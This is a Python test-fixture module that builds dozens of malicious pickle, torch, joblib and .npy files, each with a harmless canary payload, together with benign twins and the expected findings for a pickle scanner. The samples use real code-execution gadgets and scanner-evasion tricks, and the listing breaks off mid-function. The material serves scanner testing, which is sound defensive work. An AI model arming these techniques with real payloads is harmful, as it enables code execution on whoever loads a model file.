"""Builders of malicious pickles (every known technique) and their benign twins, for tests and benchmarks.

``MALICIOUS[name](canary) -> bytes`` builds a file that, *if it were ever loaded*, would run a
harmless payload creating ``canary`` (or, where a technique cannot create a file, would at least
reach the dangerous callable). Nothing here loads them. ``MALICIOUS_EXPECT[name]`` is a substring that
the scanner's findings for the sample must contain (the callable or the rule that names the
technique). ``BENIGN[name]() -> bytes`` builds a real file with the real library (torch, numpy,
scikit-learn, joblib, xgboost, lightgbm); a builder raises ``ImportError`` when its library is
missing (tests skip it). ``DECOYS`` are benign files that look alarming to string matchers.

Files are whole files as written to disk: raw pickles, torch zip or legacy checkpoints, joblib dumps,
``.npy`` arrays (see :func:`kind_of`). Heavy libraries are imported inside the builders only, and
pytest is not imported, so benchmarks can import this module cheaply.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

# --- opcode helpers ---------------------------------------------------------------------------------


def _u(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE of ``s`` (protocol 4 string)."""
    raw = s.encode("utf-8")
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def _b(data: bytes) -> bytes:
    """SHORT_BINBYTES / BINBYTES."""
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def _sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL module.name."""
    return _u(module) + _u(name) + b"\x93"


def _g(module: str, name: str) -> bytes:
    """GLOBAL module name (protocol 0 text)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _s0(s: str) -> bytes:
    """Protocol 0 STRING (quoted, escaped)."""
    return b"S" + repr(s).encode("ascii") + b"\n"


P4 = b"\x80\x04"
P2 = b"\x80\x02"
MARK, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b"t", b"\x85", b"\x86", b"\x87"
REDUCE, BUILD, STOP, POP, NONE, EMPTY_DICT, EMPTY_TUPLE = b"R", b"b", b".", b"0", b"N", b"}", b")"
SETITEM, SETITEMS, NEWOBJ, NEWTRUE, MEMOIZE, EMPTY_LIST, APPEND = (
    b"s",
    b"u",
    b"\x81",
    b"\x88",
    b"\x94",
    b"]",
    b"a",
)


def _call4(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` in protocol 4 opcodes (func and args are opcode fragments pushing one value)."""
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def _touch(canary: Path) -> str:
    return f"touch {canary}"


def _py(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _p4(body: bytes) -> bytes:
    return P4 + body + STOP


# --- os.system in every protocol and opcode ----------------------------------------------------------


def os_system_p0_global(canary: Path) -> bytes:
    return _g("os", "system") + MARK + _s0(_touch(canary)) + TUPLE + REDUCE + STOP


def os_system_p0_inst(canary: Path) -> bytes:
    return MARK + _s0(_touch(canary)) + b"ios\nsystem\n" + STOP


def os_system_p1_obj(canary: Path) -> bytes:
    cmd = _touch(canary).encode()
    return MARK + _g("os", "system") + b"U" + bytes([len(cmd)]) + cmd + b"o" + STOP


def os_system_p2_global(canary: Path) -> bytes:
    cmd = _touch(canary).encode()
    return P2 + _g("os", "system") + b"X" + struct.pack("<I", len(cmd)) + cmd + TUPLE1 + REDUCE + STOP


def os_system_p3_unicode_operand(canary: Path) -> bytes:
    # protocol 0 UNICODE operand (raw-unicode-escape) instead of STRING
    return (
        b"\x80\x03"
        + _g("os", "system")
        + MARK
        + b"V"
        + _touch(canary).encode()
        + b"\n"
        + TUPLE
        + REDUCE
        + STOP
    )


def os_system_p4_stack_global(canary: Path) -> bytes:
    return _p4(_call4(_sg("os", "system"), _u(_touch(canary))))


def os_system_p5_framed(canary: Path) -> bytes:
    body = _call4(_sg("os", "system"), _u(_touch(canary))) + STOP
    return b"\x80\x05\x95" + struct.pack("<Q", len(body)) + body


def os_system_newobj(canary: Path) -> bytes:
    # NEWOBJ of subprocess.Popen with the command as argument (cls.__new__), then BUILD
    return _p4(_sg("subprocess", "Popen") + MARK + _u("sh") + _u("-c") + _u(_touch(canary)) + TUPLE + NEWOBJ)


def os_system_newobj_ex(canary: Path) -> bytes:
    args = MARK + EMPTY_LIST + _u(_touch(canary)) + APPEND + TUPLE
    kwargs = EMPTY_DICT + _u("shell") + NEWTRUE + SETITEM
    return b"\x80\x05" + _sg("subprocess", "Popen") + args + kwargs + b"\x92" + STOP


def os_system_memo_names(canary: Path) -> bytes:
    # module and name pushed, memoized and dropped, then pulled back from the memo for STACK_GLOBAL
    names = _u("os") + MEMOIZE + POP + _u("system") + MEMOIZE + POP
    return _p4(names + _call4(b"h\x00h\x01\x93", _u(_touch(canary))))


def os_system_put_get_text(canary: Path) -> bytes:
    # protocol 1 PUT/GET with text indices and the memo overwritten (memo confusion)
    return (
        P2
        + _u("json")
        + b"p7\n0"
        + _u("os")
        + b"p7\n0"
        + b"g7\n"
        + _u("system")
        + b"\x93"
        + MARK
        + _u(_touch(canary))
        + TUPLE
        + REDUCE
        + STOP
    )


def os_system_string_operands(canary: Path) -> bytes:
    # STACK_GLOBAL fed by protocol 0 STRING and BINSTRING operands
    name = b"system"
    return _p4(
        _s0("os")
        + b"T"
        + struct.pack("<i", len(name))
        + name
        + b"\x93"
        + MARK
        + _u(_touch(canary))
        + TUPLE
        + REDUCE
    )


def posix_system_pickle_dumps(canary: Path) -> bytes:
    import os

    class _R:
        def __reduce__(self) -> tuple[Any, ...]:
            return (os.system, (_touch(canary),))

    return pickle.dumps(_R(), protocol=4)


def builtin_py2_eval(canary: Path) -> bytes:
    return _g("__builtin__", "eval") + MARK + _s0(_py(canary)) + TUPLE + REDUCE + STOP


# --- module aliases and dotted names -------------------------------------------------------------------


def dotted_pathlib_os_system(canary: Path) -> bytes:
    return _p4(_call4(_sg("pathlib", "os.system"), _u(_touch(canary))))


def random_os_system(canary: Path) -> bytes:
    return _p4(_call4(_sg("random", "_os.system"), _u(_touch(canary))))


def tempfile_os_system(canary: Path) -> bytes:
    return _p4(_call4(_sg("tempfile", "_os.system"), _u(_touch(canary))))


def dotted_builtins_dict_walk(canary: Path) -> bytes:
    # dict.get(builtins.__dict__, 'eval')(code)
    getter = _call4(_sg("builtins", "dict.get"), _sg("builtins", "__dict__"), _u("eval"))
    return _p4(_call4(getter, _u(_py(canary))))


def subclasses_walk(canary: Path) -> bytes:
    # object.__subclasses__() then an indexed class called: a builtins-only chain
    subs = _call4(_sg("builtins", "object.__subclasses__"))
    pick = _call4(_sg("operator", "getitem"), subs, b"K\x84")
    return _p4(_call4(pick, _u(_touch(canary))))


def stack_global_computed_name(canary: Path) -> bytes:
    # STACK_GLOBAL whose strings are computed by calls (builtins.str), not literals
    mod = _call4(_sg("builtins", "str"), _u("os"))
    name = _call4(_sg("builtins", "str"), _u("system"))
    return _p4(_call4(mod + name + b"\x93", _u(_touch(canary))))


# --- stdlib gadgets ---------------------------------------------------------------------------------


def typing_eval_type(canary: Path) -> bytes:
    ref = _call4(_sg("typing", "ForwardRef"), _u(f"__import__('os').system({_touch(canary)!r})"))
    return _p4(_call4(_sg("typing", "_eval_type"), ref, EMPTY_DICT, EMPTY_DICT))


def dataclasses_create_fn(canary: Path) -> bytes:
    args = EMPTY_LIST + _u(f"x=__import__('os').system({_touch(canary)!r})") + APPEND
    body = EMPTY_LIST + _u("pass") + APPEND
    return _p4(_call4(_sg("dataclasses", "_create_fn"), _u("f"), args, body))


def mailcap_findmatch(canary: Path) -> bytes:
    caps = EMPTY_DICT + _u("x/y") + EMPTY_LIST + EMPTY_DICT + _u("test") + _u(_touch(canary))
    caps += _u("view") + _u("true") + MARK + SETITEMS + APPEND + SETITEM
    return _p4(_call4(_sg("mailcap", "findmatch"), caps, _u("x/y")))


def operator_call_path_touch(canary: Path) -> bytes:
    path = _call4(_sg("pathlib", "Path"), _u(str(canary)))
    return _p4(_call4(_sg("operator", "call"), _sg("pathlib", "Path.touch"), path))


def operator_attrgetter(canary: Path) -> bytes:
    getter = _call4(_sg("operator", "attrgetter"), _u("system"))
    osmod = _call4(_sg("importlib", "import_module"), _u("os"))
    return _p4(_call4(_call4(getter, osmod), _u(_touch(canary))))


def operator_methodcaller(canary: Path) -> bytes:
    caller = _call4(_sg("operator", "methodcaller"), _u("system"), _u(_touch(canary)))
    return _p4(_call4(caller, _call4(_sg("builtins", "__import__"), _u("os"))))


def functools_partial(canary: Path) -> bytes:
    part = _call4(_sg("functools", "partial"), _sg("os", "system"), _u(_touch(canary)))
    return _p4(_call4(part))


def importlib_import_module_getattr(canary: Path) -> bytes:
    osmod = _call4(_sg("importlib", "import_module"), _u("os"))
    return _p4(_call4(_call4(_sg("builtins", "getattr"), osmod, _u("system")), _u(_touch(canary))))


def importlib_inspect_getattr_static(canary: Path) -> bytes:
    osmod = _call4(_sg("importlib", "import_module"), _u("os"))
    fn = _call4(_sg("inspect", "getattr_static"), osmod, _u("system"))
    return _p4(_call4(fn, _u(_touch(canary))))


def builtins_getattr_chain(canary: Path) -> bytes:
    imp = _call4(_sg("builtins", "getattr"), _sg("builtins", "__import__"), _u("__call__"))
    osmod = _call4(imp, _u("os"))
    return _p4(_call4(_call4(_sg("builtins", "getattr"), osmod, _u("system")), _u(_touch(canary))))


def getattr_computed_string(canary: Path) -> bytes:
    # getattr(builtins, 'ev' + 'al'): the attribute name is computed at load time
    name = _call4(_sg("operator", "add"), _u("ev"), _u("al"))
    builtins_mod = _call4(_sg("builtins", "__import__"), _u("builtins"))
    return _p4(_call4(_call4(_sg("builtins", "getattr"), builtins_mod, name), _u(_py(canary))))


def pydoc_locate(canary: Path) -> bytes:
    return _p4(_call4(_call4(_sg("pydoc", "locate"), _u("os.system")), _u(_touch(canary))))


def pydoc_pipepager(canary: Path) -> bytes:
    return _p4(_call4(_sg("pydoc", "pipepager"), _u("x"), _u(_touch(canary))))


def pkgutil_resolve_name(canary: Path) -> bytes:
    return _p4(_call4(_call4(_sg("pkgutil", "resolve_name"), _u("os:system")), _u(_touch(canary))))


def pip_main(canary: Path) -> bytes:
    argv = EMPTY_LIST + MARK + _u("download") + _u("--no-index") + _u("-d") + _u(str(canary)) + _u("x") + b"e"
    return _p4(_call4(_sg("pip", "main"), argv))


def runpy_run_code(canary: Path) -> bytes:
    return _p4(_call4(_sg("runpy", "_run_code"), _u(_py(canary)), EMPTY_DICT))


def runpy_run_path(canary: Path) -> bytes:
    return _p4(_call4(_sg("runpy", "run_path"), _u(str(canary) + ".py")))


def webbrowser_open(canary: Path) -> bytes:
    return _p4(_call4(_sg("webbrowser", "open"), _u(f"file://{canary}")))


def ctypes_cdll_system(canary: Path) -> bytes:
    lib = _call4(_sg("ctypes", "CDLL"), NONE)
    fn = _call4(_sg("builtins", "getattr"), lib, _u("system"))
    return _p4(_call4(fn, _b(_touch(canary).encode())))


def timeit_timeit(canary: Path) -> bytes:
    return _p4(
        _call4(_sg("timeit", "timeit"), _u(_py(canary)), _u("pass"), _sg("time", "perf_counter"), b"K\x01")
    )


def cprofile_run(canary: Path) -> bytes:
    return _p4(_call4(_sg("cProfile", "run"), _u(_py(canary))))


def profile_run(canary: Path) -> bytes:
    return _p4(_call4(_sg("profile", "run"), _u(_py(canary))))


def code_interactive_interpreter(canary: Path) -> bytes:
    interp = _call4(_sg("code", "InteractiveInterpreter"))
    return _p4(_call4(_sg("code", "InteractiveInterpreter.runsource"), interp, _u(_py(canary))))


def pdb_run(canary: Path) -> bytes:
    return _p4(_call4(_sg("pdb", "run"), _u(_py(canary))))


def setuptools_spawn(canary: Path) -> bytes:
    argv = EMPTY_LIST + MARK + _u("touch") + _u(str(canary)) + b"e"
    return _p4(_call4(_sg("setuptools._distutils.spawn", "spawn"), argv))


def multiprocessing_spawnv_passfds(canary: Path) -> bytes:
    argv = EMPTY_LIST + MARK + _b(b"touch") + _b(str(canary).encode()) + b"e"
    return _p4(
        _call4(_sg("multiprocessing.util", "spawnv_passfds"), _b(b"/usr/bin/touch"), argv, EMPTY_TUPLE)
    )


def logging_file_handler(canary: Path) -> bytes:
    return _p4(_call4(_sg("logging", "FileHandler"), _u(str(canary))))


def urllib_urlretrieve(canary: Path) -> bytes:
    return _p4(_call4(_sg("urllib.request", "urlretrieve"), _u("file:///etc/hostname"), _u(str(canary))))


def urllib_urlopen(canary: Path) -> bytes:
    return _p4(_call4(_sg("urllib.request", "urlopen"), _u(f"http://127.0.0.1:9/{canary.name}")))


def socket_connect(canary: Path) -> bytes:
    return _p4(_call4(_sg("socket", "create_connection"), MARK + _u("127.0.0.1") + b"K\x09" + TUPLE))


def shutil_copyfile(canary: Path) -> bytes:
    return _p4(_call4(_sg("shutil", "copyfile"), _u("/etc/hostname"), _u(str(canary))))


def builtins_open_write(canary: Path) -> bytes:
    return _p4(_call4(_sg("builtins", "open"), _u(str(canary)), _u("w")))


def sys_modules_setitem(canary: Path) -> bytes:
    # SETITEM on an imported dict (copyreg's inverted registry): registers an EXT code in-pickle
    reg = _sg("copyreg", "_inverted_registry")
    entry = reg + b"M\xad\xde" + MARK + _u("os") + _u("system") + TUPLE + SETITEM + POP
    return _p4(entry + _call4(b"\x83\xad\xde", _u(_touch(canary))))


# --- reloaders and embedded code ----------------------------------------------------------------------


def torch_load_nested_bytes(canary: Path) -> bytes:
    inner = os_system_p2_global(canary)
    buf = _call4(_sg("io", "BytesIO"), _b(inner))
    return _p4(_call4(_sg("torch", "load"), buf))


def torch_load_from_bytes_malicious(canary: Path) -> bytes:
    # torch.storage._load_from_bytes is what pickle.dumps(tensor) uses; here its payload is a bad pickle
    return _p4(_call4(_sg("torch.storage", "_load_from_bytes"), _b(os_system_p2_global(canary))))


def torch_load_from_bytes_zip(canary: Path) -> bytes:
    # ... and here the payload is a torch zip whose data.pkl is malicious
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("archive/data.pkl", os_system_p2_global(canary))
        zf.writestr("archive/version", "3\n")
    return _p4(_call4(_sg("torch.storage", "_load_from_bytes"), _b(out.getvalue())))


def numpy_load(canary: Path) -> bytes:
    return _p4(_call4(_sg("numpy", "load"), _u(str(canary) + ".npy"), NONE, NEWTRUE))


def numpy_ufunc_reconstruct(canary: Path) -> bytes:
    fn = _call4(_sg("numpy.core", "_ufunc_reconstruct"), _u("os"), _u("system"))
    return _p4(_call4(fn, _u(_touch(canary))))


def pickle_loads_nested(canary: Path) -> bytes:
    return _p4(_call4(_sg("pickle", "loads"), _b(os_system_p2_global(canary))))


def marshal_function_type(canary: Path) -> bytes:
    import marshal

    code = compile(_py(canary), "<payload>", "exec")
    codeobj = _call4(_sg("marshal", "loads"), _b(marshal.dumps(code)))
    fn = _call4(_sg("types", "FunctionType"), codeobj, EMPTY_DICT)
    return _p4(_call4(fn))


def dill_code_object(canary: Path) -> bytes:
    import dill  # type: ignore[import-untyped]

    path = str(canary)

    def payload() -> None:
        open(path, "w").close()

    return bytes(dill.dumps(payload, recurse=True))


def cloudpickle_function(canary: Path) -> bytes:
    import cloudpickle  # type: ignore[import-untyped]

    path = str(canary)
    return bytes(cloudpickle.dumps(lambda: open(path, "w").close()))


def ext_opcode_registered(canary: Path) -> bytes:
    # what pickle.dumps writes after copyreg.add_extension('posix', 'system', 0xF00D): an EXT2 code
    cmd = _touch(canary).encode()
    return P2 + b"\x83\x0d\xf0" + b"X" + struct.pack("<I", len(cmd)) + cmd + TUPLE1 + REDUCE + STOP


def ext1_build(canary: Path) -> bytes:
    return P2 + b"\x82\x07" + EMPTY_DICT + _u("x") + _u(_touch(canary)) + SETITEM + BUILD + STOP


# --- structure tricks ---------------------------------------------------------------------------------


def discarded_reduce_pop(canary: Path) -> bytes:
    return _p4(_call4(_sg("os", "system"), _u(_touch(canary))) + POP + NONE)


def discarded_reduce_pop_mark(canary: Path) -> bytes:
    return _p4(MARK + _call4(_sg("os", "system"), _u(_touch(canary))) + b"1" + NONE)


def reduce_then_garbage(canary: Path) -> bytes:
    return P4 + _call4(_sg("os", "system"), _u(_touch(canary))) + b"\xff\xfe garbage"


def reduce_then_truncated(canary: Path) -> bytes:
    return P4 + _call4(_sg("os", "system"), _u(_touch(canary))) + b"X\xff\xff\x00\x00abc"


def frame_length_lie(canary: Path) -> bytes:
    """CPython issue 154848: an operand crosses a FRAME end; the C unpickler reading a file drops the
    rest of the frame, so a payload hidden in a BINBYTES runs while disassemblers see plain bytes."""
    hidden = _g("os", "system") + b"V" + _touch(canary).encode() + b"\n" + TUPLE1 + REDUCE
    p = b"\x80\x05" + NONE + b"V" + b"a" * (8192 * 16 - 17) + b"\n" + POP + MARK
    p += b"\x95" + struct.pack("<Q", 2)
    p += b"B\x07\x01\x00\x00" + b"\x00\x00" + (hidden + MARK).ljust(256 + 5, NONE) + b"1" + STOP
    return p


def frame_beyond_end(canary: Path) -> bytes:
    body = _call4(_sg("os", "system"), _u(_touch(canary))) + STOP
    return b"\x80\x04\x95" + struct.pack("<Q", len(body) + 4096) + body


def second_pickle_after_benign(canary: Path) -> bytes:
    return pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + os_system_p2_global(canary)


def second_pickle_protocol0(canary: Path) -> bytes:
    return pickle.dumps({"weights": [1.0, 2.0]}, protocol=4) + os_system_p0_global(canary)


def build_dunder_state(canary: Path) -> bytes:
    # an allowlisted object rebuilt with a state that sets __class__ (slot state: setattr)
    obj = _sg("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
    slot = EMPTY_DICT + _u("__class__") + _sg("os", "system") + SETITEM
    return _p4(obj + MARK + NONE + slot + TUPLE + BUILD)


def build_dunder_reduce(canary: Path) -> bytes:
    # BUILD on an allowlisted rebuild that plants __reduce__/__setstate__ in its state
    obj = _call4(_sg("collections", "OrderedDict"))
    state = (
        EMPTY_DICT + MARK + _u("__setstate__") + _sg("builtins", "set") + _u("__reduce__") + NONE + SETITEMS
    )
    return _p4(obj + state + BUILD)


def build_setattr_on_global(canary: Path) -> bytes:
    # BUILD on an imported class: setattr(collections.OrderedDict, 'fromkeys', ...) (monkey-patching)
    state = MARK + NONE + EMPTY_DICT + _u("fromkeys") + _sg("builtins", "set") + SETITEM + TUPLE
    return _p4(_sg("collections", "OrderedDict") + state + BUILD + POP + NONE)


def torch_parameter_state_dunder(canary: Path) -> bytes:
    # an allowlisted torch rebuild whose state argument sets __class__ (torch applies it with setattr)
    state = EMPTY_DICT + _u("__class__") + _sg("argparse", "Namespace") + SETITEM
    args = (NONE, b"\x89", _call4(_sg("collections", "OrderedDict")), state)
    return _p4(_call4(_sg("torch._utils", "_rebuild_parameter_with_state"), *args))


def appends_on_global(canary: Path) -> bytes:
    # APPENDS on an imported module object calls its .extend/.append
    return _p4(_sg("torch.nn", "modules") + MARK + _u(_touch(canary)) + b"e" + POP + NONE)


def joblib_hidden_after_arrays(canary: Path) -> bytes:
    return benign_joblib_arrays() + os_system_p2_global(canary)


def joblib_malicious_object_array(canary: Path) -> bytes:
    import joblib
    import numpy as np

    class _R:
        def __reduce__(self) -> tuple[Any, ...]:
            import os

            return (os.system, (_touch(canary),))

    arr = np.empty(2, dtype=object)
    arr[0] = 1
    arr[1] = _R()
    out = io.BytesIO()
    joblib.dump({"weights": np.arange(8.0), "objects": arr, "bias": np.ones(3)}, out)
    return out.getvalue()


def joblib_array_bytes_pickle_load(canary: Path) -> bytes:
    """A real joblib dump whose raw array bytes are pickle opcodes: joblib.load reads them as data,
    pickle.load runs them (written without alignment padding, as joblib does for unseekable files)."""
    import joblib
    import numpy as np

    class _Unseekable(io.RawIOBase):
        def __init__(self) -> None:
            self.out = io.BytesIO()

        def writable(self) -> bool:
            return True

        def write(self, b: Any) -> int:
            return self.out.write(b)

        def tell(self) -> int:
            raise io.UnsupportedOperation("tell")

    payload = os_system_p0_global(canary)[:-1]  # no STOP: the unpickler goes on into joblib's bytes
    sink = _Unseekable()
    joblib.dump({"weights": np.frombuffer(payload, dtype=np.uint8)}, sink)
    return sink.out.getvalue()


def npy_object_array_malicious(canary: Path) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(117) + "\n"
    return (
        b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + os_system_p2_global(canary)
    )


def pickle_zip_member_malicious(canary: Path) -> bytes:
    """A torch-style zip whose data.pkl is malicious (container layers route it to the walker)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("archive/data.pkl", os_system_p2_global(canary))
        zf.writestr("archive/version", "3\n")
    return out.getvalue()


def setitems_into_list(canary: Path) -> bytes:
    # GHSA-63cw-57p8-fm3p: SETITEMS on a value that is not a dict corrupted memory in torch's
    # weights-only unpickler (torch <= 2.9.1). No payload to run; the structure is the attack.
    del canary
    return b"\x80\x02}X\x01\x00\x00\x00w](K\x00K\x01K\x02K\x03us."


def setitem_into_tuple(canary: Path) -> bytes:
    del canary
    return b"\x80\x02)K\x00X\x04\x00\x00\x00AAAAs."


MALICIOUS: dict[str, Callable[[Path], bytes]] = {
    "os_system_p0_global": os_system_p0_global,
    "os_system_p0_inst": os_system_p0_inst,
    "os_system_p1_obj": os_system_p1_obj,
    "os_system_p2_global": os_system_p2_global,
    "os_system_p3_unicode_operand": os_system_p3_unicode_operand,
    "os_system_p4_stack_global": os_system_p4_stack_global,
    "os_system_p5_framed": os_system_p5_framed,
    "os_system_newobj": os_system_newobj,
    "os_system_newobj_ex": os_system_newobj_ex,
    "os_system_memo_names": os_system_memo_names,
    "os_system_put_get_text": os_system_put_get_text,
    "os_system_string_operands": os_system_string_operands,
    "posix_system_pickle_dumps": posix_system_pickle_dumps,
    "builtin_py2_eval": builtin_py2_eval,
    "dotted_pathlib_os_system": dotted_pathlib_os_system,
    "random_os_system": random_os_system,
    "tempfile_os_system": tempfile_os_system,
    "dotted_builtins_dict_walk": dotted_builtins_dict_walk,
    "subclasses_walk": subclasses_walk,
    "stack_global_computed_name": stack_global_computed_name,
    "typing_eval_type": typing_eval_type,
    "dataclasses_create_fn": dataclasses_create_fn,
    "mailcap_findmatch": mailcap_findmatch,
    "operator_call_path_touch": operator_call_path_touch,
    "operator_attrgetter": operator_attrgetter,
    "operator_methodcaller": operator_methodcaller,
    "functools_partial": functools_partial,
    "importlib_import_module_getattr": importlib_import_module_getattr,
    "importlib_inspect_getattr_static": importlib_inspect_getattr_static,
    "builtins_getattr_chain": builtins_getattr_chain,
    "getattr_computed_string": getattr_computed_string,
    "pydoc_locate": pydoc_locate,
    "pydoc_pipepager": pydoc_pipepager,
    "pkgutil_resolve_name": pkgutil_resolve_name,
    "pip_main": pip_main,
    "runpy_run_code": runpy_run_code,
    "runpy_run_path": runpy_run_path,
    "webbrowser_open": webbrowser_open,
    "ctypes_cdll_system": ctypes_cdll_system,
    "timeit_timeit": timeit_timeit,
    "cprofile_run": cprofile_run,
    "profile_run": profile_run,
    "code_interactive_interpreter": code_interactive_interpreter,
    "pdb_run": pdb_run,
    "setuptools_spawn": setuptools_spawn,
    "multiprocessing_spawnv_passfds": multiprocessing_spawnv_passfds,
    "logging_file_handler": logging_file_handler,
    "urllib_urlretrieve": urllib_urlretrieve,
    "urllib_urlopen": urllib_urlopen,
    "socket_connect": socket_connect,
    "shutil_copyfile": shutil_copyfile,
    "builtins_open_write": builtins_open_write,
    "copyreg_registry_setitem": sys_modules_setitem,
    "torch_load_nested_bytes": torch_load_nested_bytes,
    "torch_load_from_bytes_malicious": torch_load_from_bytes_malicious,
    "torch_load_from_bytes_zip": torch_load_from_bytes_zip,
    "numpy_load": numpy_load,
    "numpy_ufunc_reconstruct": numpy_ufunc_reconstruct,
    "pickle_loads_nested": pickle_loads_nested,
    "marshal_function_type": marshal_function_type,
    "dill_code_object": dill_code_object,
    "cloudpickle_function": cloudpickle_function,
    "ext_opcode_registered": ext_opcode_registered,
    "ext1_build": ext1_build,
    "discarded_reduce_pop": discarded_reduce_pop,
    "discarded_reduce_pop_mark": discarded_reduce_pop_mark,
    "reduce_then_garbage": reduce_then_garbage,
    "reduce_then_truncated": reduce_then_truncated,
    "frame_length_lie": frame_length_lie,
    "frame_beyond_end": frame_beyond_end,
    "second_pickle_after_benign": second_pickle_after_benign,
    "second_pickle_protocol0": second_pickle_protocol0,
    "build_dunder_state": build_dunder_state,
    "build_dunder_reduce": build_dunder_reduce,
    "build_setattr_on_global": build_setattr_on_global,
    "torch_parameter_state_dunder": torch_parameter_state_dunder,
    "appends_on_global": appends_on_global,
    "joblib_hidden_after_arrays": joblib_hidden_after_arrays,
    "joblib_malicious_object_array": joblib_malicious_object_array,
    "joblib_array_bytes_pickle_load": joblib_array_bytes_pickle_load,
    "npy_object_array_malicious": npy_object_array_malicious,
    "pickle_zip_member_malicious": pickle_zip_member_malicious,
    "setitems_into_list": setitems_into_list,
    "setitem_into_tuple": setitem_into_tuple,
}

#: A substring the findings for each sample must contain (a callable or a rule id naming the technique).
MALICIOUS_EXPECT: dict[str, str] = {
    "os_system_p0_global": "os.system",
    "os_system_p0_inst": "os.system",
    "os_system_p1_obj": "os.system",
    "os_system_p2_global": "os.system",
    "os_system_p3_unicode_operand": "os.system",
    "os_system_p4_stack_global": "os.system",
    "os_system_p5_framed": "os.system",
    "os_system_newobj": "subprocess.Popen",
    "os_system_newobj_ex": "subprocess.Popen",
    "os_system_memo_names": "os.system",
    "os_system_put_get_text": "os.system",
    "os_system_string_operands": "os.system",
    "posix_system_pickle_dumps": "posix.system",
    "builtin_py2_eval": "builtins.eval",
    "dotted_pathlib_os_system": "pathlib.os.system",
    "random_os_system": "random._os.system",
    "tempfile_os_system": "tempfile._os.system",
    "dotted_builtins_dict_walk": "builtins.__dict__",
    "subclasses_walk": "__subclasses__",
    "stack_global_computed_name": "pickle.import-indirection",
    "typing_eval_type": "typing._eval_type",
    "dataclasses_create_fn": "dataclasses._create_fn",
    "mailcap_findmatch": "mailcap.findmatch",
    "operator_call_path_touch": "operator.call",
    "operator_attrgetter": "operator.attrgetter",
    "operator_methodcaller": "operator.methodcaller",
    "functools_partial": "functools.partial",
    "importlib_import_module_getattr": "importlib.import_module",
    "importlib_inspect_getattr_static": "inspect.getattr_static",
    "builtins_getattr_chain": "builtins.getattr",
    "getattr_computed_string": "builtins.getattr",
    "pydoc_locate": "pydoc.locate",
    "pydoc_pipepager": "pydoc.pipepager",
    "pkgutil_resolve_name": "pkgutil.resolve_name",
    "pip_main": "pip.main",
    "runpy_run_code": "runpy._run_code",
    "runpy_run_path": "runpy.run_path",
    "webbrowser_open": "webbrowser.open",
    "ctypes_cdll_system": "ctypes.CDLL",
    "timeit_timeit": "timeit.timeit",
    "cprofile_run": "cProfile.run",
    "profile_run": "profile.run",
    "code_interactive_interpreter": "code.InteractiveInterpreter",
    "pdb_run": "pdb.run",
    "setuptools_spawn": "setuptools._distutils.spawn.spawn",
    "multiprocessing_spawnv_passfds": "multiprocessing.util.spawnv_passfds",
    "logging_file_handler": "logging.FileHandler",
    "urllib_urlretrieve": "urllib.request.urlretrieve",
    "urllib_urlopen": "urllib.request.urlopen",
    "socket_connect": "socket.create_connection",
    "shutil_copyfile": "shutil.copyfile",
    "builtins_open_write": "builtins.open",
    "copyreg_registry_setitem": "copyreg._inverted_registry",
    "torch_load_nested_bytes": "torch.load",
    "torch_load_from_bytes_malicious": "os.system",
    "torch_load_from_bytes_zip": "os.system",
    "numpy_load": "numpy.load",
    "numpy_ufunc_reconstruct": "os.system",
    "pickle_loads_nested": "pickle.loads",
    "marshal_function_type": "types.FunctionType",
    "dill_code_object": "dill._dill._create_code",
    "cloudpickle_function": "cloudpickle",
    "ext_opcode_registered": "pickle.ext-opcode",
    "ext1_build": "pickle.ext-opcode",
    "discarded_reduce_pop": "os.system",
    "discarded_reduce_pop_mark": "os.system",
    "reduce_then_garbage": "os.system",
    "reduce_then_truncated": "os.system",
    "frame_length_lie": "os.system",
    "frame_beyond_end": "os.system",
    "second_pickle_after_benign": "os.system",
    "second_pickle_protocol0": "os.system",
    "build_dunder_state": "pickle.dunder-build",
    "build_dunder_reduce": "pickle.dunder-build",
    "build_setattr_on_global": "pickle.global-mutation",
    "torch_parameter_state_dunder": "pickle.dunder-build",
    "appends_on_global": "pickle.global-mutation",
    "joblib_hidden_after_arrays": "os.system",
    "joblib_malicious_object_array": "posix.system",
    "joblib_array_bytes_pickle_load": "os.system",
    "npy_object_array_malicious": "os.system",
    "pickle_zip_member_malicious": "os.system",
    "setitems_into_list": "pickle.setitem-non-mapping",
    "setitem_into_tuple": "pickle.setitem-non-mapping",
}


# --- benign twins, made by the real libraries ----------------------------------------------------------


def _torch_state_dict() -> Any:
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(
        torch.nn.Conv2d(3, 4, 3),
        torch.nn.BatchNorm2d(4),
        torch.nn.ReLU(),
        torch.nn.Flatten(),
        torch.nn.Linear(4, 2),
    )
    return model.state_dict()


def benign_torch_zip() -> bytes:
    import torch

    out = io.BytesIO()
    torch.save(_torch_state_dict(), out)
    return out.getvalue()


def benign_torch_legacy() -> bytes:
    import torch

    out = io.BytesIO()
    torch.save(_torch_state_dict(), out, _use_new_zipfile_serialization=False)
    return out.getvalue()


def benign_torch_checkpoint_dict() -> bytes:
    """A training checkpoint: model and optimizer state, epoch, loss, hyper-parameters."""
    import torch

    model = torch.nn.Linear(4, 2)
    opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
    model(torch.ones(1, 4)).sum().backward()
    opt.step()
    out = io.BytesIO()
    torch.save(
        {"model": model.state_dict(), "optimizer": opt.state_dict(), "epoch": 3, "loss": 0.25, "lr": 1e-3},
        out,
    )
    return out.getvalue()


def benign_torch_many_tensors() -> bytes:
    import torch
